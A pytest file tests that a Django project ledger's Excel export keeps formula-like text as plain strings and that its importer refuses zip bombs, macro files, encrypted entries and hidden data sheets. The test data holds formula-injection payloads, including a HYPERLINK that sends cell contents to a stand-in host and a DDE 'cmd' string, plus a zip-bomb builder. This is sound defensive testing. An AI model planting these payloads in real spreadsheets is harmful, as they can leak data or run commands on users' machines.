"""Every .xlsx the ledger writes keeps people's text as text; uploads are checked before parsing."""
from __future__ import annotations

import datetime as dt
import io
import re
import time
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from audit.models import AuditEntry
from core.excel import cells, guard
from org.models import Unit, User
from projects import excel
from projects.models import Project
from projects.tests.test_excel import LABELS, download, error_rows, login, new_row, upload

# What a spreadsheet may take for the start of a formula (Excel evaluates "=", and in some
# versions "+", "-" and "@" typed at the start of a cell).
PAYLOADS = ['=HYPERLINK("http://x/?"&A1,"点击")', "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(1,2)"]
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formula_parts(data: bytes) -> list[str]:
    """The sheet parts of a saved workbook that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name for name in archive.namelist()
            if name.startswith("xl/worksheets/") and FORMULA_ELEMENT.search(archive.read(name))
        ]


def cells_with(workbook: Any, texts: list[str]) -> list[Any]:
    found = [
        cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row
        if isinstance(cell.value, str) and cell.value in texts
    ]
    return found


# --- writing ------------------------------------------------------------------------------------

def test_set_value_keeps_a_text_starting_with_equals_as_text() -> None:
    wb = Workbook()
    ws = wb.active
    cell = cells.put(ws, 1, 1, "=1+1")
    assert cell.data_type == "s" and cell.value == "=1+1"
    assert cells.put(ws, 1, 2, cells.Formula("=1+1")).data_type == "f"
    out = io.BytesIO()
    wb.save(out)
    with zipfile.ZipFile(out) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b'<c r="A1" t="inlineStr"><is><t>=1+1</t></is></c>' in sheet
    assert b"<f>1+1</f>" in sheet


@pytest.fixture
def hostile(personas: dict[str, User], make_project: Any, units: dict[str, Unit]) -> list[Project]:
    """Projects, a unit and a leader whose names and texts start like formulas."""
    unit = Unit.objects.create(name="=cmd|' /C calc'!A0", short_name="+单位", kind=Unit.Kind.DEPARTMENT)
    User.objects.filter(pk=personas["leader"].pk).update(full_name="@SUM(1,2)")
    return [
        make_project(code="2026-X-001", name=PAYLOADS[0], owner=PAYLOADS[1], content=PAYLOADS[2],
                     remarks=PAYLOADS[3], industry="=1+1", location="-1", service_officer="+2",
                     owner_contact="@3", responsible_leader=personas["leader"]),
        make_project(code="2026-X-002", name=PAYLOADS[1], lead_unit=unit),
    ]


def test_the_export_writes_every_text_as_a_string_cell(hostile: list[Project]) -> None:
    data = download(login("office"))
    assert formula_parts(data) == []
    wb = load_workbook(io.BytesIO(data))
    texts = [*PAYLOADS, "=1+1", "-1", "+2", "@3", "@SUM(1,2)", "=cmd|' /C calc'!A0"]
    found = cells_with(wb, texts)
    assert {cell.value for cell in found} == set(texts)
    assert {cell.data_type for cell in found} == {"s"}


def test_the_unchanged_export_imports_with_no_change(hostile: list[Project]) -> None:
    client = login("office")
    data = download(client)
    audits = AuditEntry.objects.count()
    response = upload(client, data)
    assert response.status_code == 302, error_rows(response)
    assert AuditEntry.objects.count() == audits
    page = client.get(response["Location"]).content.decode()
    assert "新增 0 个，更新 0 个，未变化 2 个" in page
    assert Project.objects.get(code="2026-X-001").name == PAYLOADS[0]


def test_the_template_writes_names_as_string_cells(hostile: list[Project]) -> None:
    data = download(login("office"), "/projects/excel/template.xlsx")
    assert formula_parts(data) == []
    wb = load_workbook(io.BytesIO(data))
    found = cells_with(wb, ["=cmd|' /C calc'!A0", "@SUM(1,2)"])
    assert len(found) == 2 and {cell.data_type for cell in found} == {"s"}


def test_a_typed_text_starting_with_equals_is_taken_as_text(personas: dict[str, User]) -> None:
    """Excel saves '=abc (typed with a leading apostrophe) as a string cell: it is the name, never run."""
    wb = Workbook()
    ws = wb.active
    ws.title = excel.SHEET
    ws.append(LABELS)
    row = new_row("T-1")
    ws.append(row)
    cells.put(ws, 2, LABELS.index("项目名称") + 1, PAYLOADS[0])
    out = io.BytesIO()
    wb.save(out)
    response = upload(login("office"), out.getvalue())
    assert response.status_code == 302, error_rows(response)
    assert Project.objects.get(code="T-1").name == PAYLOADS[0]


# --- reading: limits checked before parsing -------------------------------------------------------

def _bomb(rows: int) -> bytes:
    """A valid workbook whose one sheet repeats a row ``rows`` times: megabytes that zip to kilobytes."""
    wb = Workbook()
    wb.active.title = excel.SHEET
    wb.active.append(LABELS)
    out = io.BytesIO()
    wb.save(out)
    # Rows and cells may leave out their reference ("r"); identical rows compress a thousand times.
    body = b'<row><c t="inlineStr"><is><t>X</t></is></c></row>' * rows
    bombed = io.BytesIO()
    with zipfile.ZipFile(out) as source, zipfile.ZipFile(bombed, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            part = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                part = part.replace(b"</sheetData>", body + b"</sheetData>")
            target.writestr(info.filename, part)
    return bombed.getvalue()


@pytest.mark.parametrize(("rows", "message"), [
    (1_500_000, "文件解压后为"),  # about 95 MB of sheet XML, the size seen in the probe
    (900_000, "超过上限"),  # under the size cap, over the compression ratio and the cell count
])
def test_a_zip_bomb_is_refused_in_well_under_a_second(personas: dict[str, User], rows: int, message: str) -> None:
    data = _bomb(rows)
    assert len(data) < 1024 * 1024
    before = Project.objects.count(), AuditEntry.objects.count()
    started = time.monotonic()
    response = upload(login("office"), data)
    elapsed = time.monotonic() - started
    text = "".join(error_rows(response))
    assert message in text and "不能导入" in text
    assert elapsed < 3, elapsed
    assert (Project.objects.count(), AuditEntry.objects.count()) == before


def test_too_many_cells_are_counted_before_parsing(personas: dict[str, User], monkeypatch: Any) -> None:
    """Under the size and ratio caps, but more cells than the limit: refused from the raw XML."""
    monkeypatch.setattr(guard, "MAX_CELLS", 1_000)
    response = upload(login("office"), _bomb(1_500))
    assert "1000 个单元格" in "".join(error_rows(response))


def test_rows_over_the_limit_stop_the_reading(personas: dict[str, User], monkeypatch: Any) -> None:
    monkeypatch.setattr(guard, "MAX_ROWS", 10)
    parsed: list[int] = []
    real = guard.ReadCell

    def counting(value: Any, data_type: str) -> guard.ReadCell:
        parsed.append(1)
        return real(value, data_type)

    monkeypatch.setattr(guard, "ReadCell", counting)
    workbook = guard.open_upload(SimpleUploadedFile("a.xlsx", _bomb(5_000)))
    with pytest.raises(guard.FileRejected, match="超过上限 10 行"):
        guard.read_sheet(workbook.worksheets[0], max_rows=guard.MAX_ROWS)
    workbook.close()
    assert len(parsed) < 100  # the header's cells and eleven rows, not five thousand


# --- reading: what is not a plain workbook ----------------------------------------------------------

def _with_parts(data: bytes, extra: dict[str, bytes], replace: dict[str, tuple[bytes, bytes]] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            part = source.read(info.filename)
            for old, new in [(o, n) for name, (o, n) in (replace or {}).items() if name == info.filename]:
                part = part.replace(old, new)
            target.writestr(info.filename, part)
        for name, part in extra.items():
            target.writestr(name, part)
    return out.getvalue()


def _valid() -> bytes:
    wb = Workbook()
    wb.active.title = excel.SHEET
    wb.active.append(LABELS)
    wb.active.append(new_row("V-1", 计划开工日期=dt.date(2026, 3, 1)))
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


MACRO_MESSAGE = "这是启用宏的 Excel 文件（.xlsm），不能导入"


@pytest.mark.parametrize(("data", "name"), [
    (lambda: _valid(), "ledger.xlsm"),
    (lambda: _with_parts(_valid(), {"xl/vbaProject.bin": b"\0" * 100}), "ledger.xlsx"),
    (lambda: _with_parts(_valid(), {}, {"[Content_Types].xml": (
        b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")}), "ledger.xlsx"),
])
def test_macro_workbooks_are_refused(personas: dict[str, User], data: Any, name: str) -> None:
    response = upload(login("office"), data(), name=name)
    assert MACRO_MESSAGE in "".join(error_rows(response))
    assert Project.objects.count() == 0


def test_encrypted_members_are_refused(personas: dict[str, User]) -> None:
    data = bytearray(_valid())
    # Set the "encrypted" flag of every entry in the central directory.
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) >= 0:
        data[position + 8] |= 0x1
        position += 4
    response = upload(login("office"), bytes(data))
    assert "文件已加密" in "".join(error_rows(response))
    assert Project.objects.count() == 0


def test_hidden_sheets_are_named_and_ignored(personas: dict[str, User]) -> None:
    wb = Workbook()
    ws = wb.active
    ws.title = excel.SHEET
    ws.append(LABELS)
    ws.append(new_row("H-1"))
    secret = wb.create_sheet("旧数据")
    secret.append(LABELS)
    secret.append(new_row("H-2"))
    secret.sheet_state = "hidden"
    wb.create_sheet("宏").sheet_state = "veryHidden"
    out = io.BytesIO()
    wb.save(out)
    client = login("office")
    response = upload(client, out.getvalue())
    assert response.status_code == 302, error_rows(response)
    page = client.get(response["Location"]).content.decode()
    assert "文件中有隐藏的工作表：旧数据、宏。隐藏工作表中的内容不会导入，已忽略。" in page
    assert list(Project.objects.values_list("code", flat=True)) == ["H-1"]


def test_a_hidden_data_sheet_is_refused(personas: dict[str, User]) -> None:
    wb = Workbook()
    ws = wb.active
    ws.title = excel.SHEET
    ws.append(LABELS)
    ws.append(new_row("H-1"))
    wb.create_sheet("说明")
    ws.sheet_state = "hidden"
    out = io.BytesIO()
    wb.save(out)
    response = upload(login("office"), out.getvalue())
    assert "工作表“重点项目”被隐藏了" in "".join(error_rows(response))
    assert Project.objects.count() == 0


def test_dates_and_numbers_read_back_as_before(personas: dict[str, User]) -> None:
    """The streaming reader gives the same values as the full one did: a date cell is a date."""
    response = upload(login("office"), _valid())
    assert response.status_code == 302, error_rows(response)
    project = Project.objects.get(code="V-1")
    assert project.total_investment == Decimal("50000")
    assert (project.planned_start, project.actual_start) == (dt.date(2026, 3, 1), dt.date(2026, 3, 15))
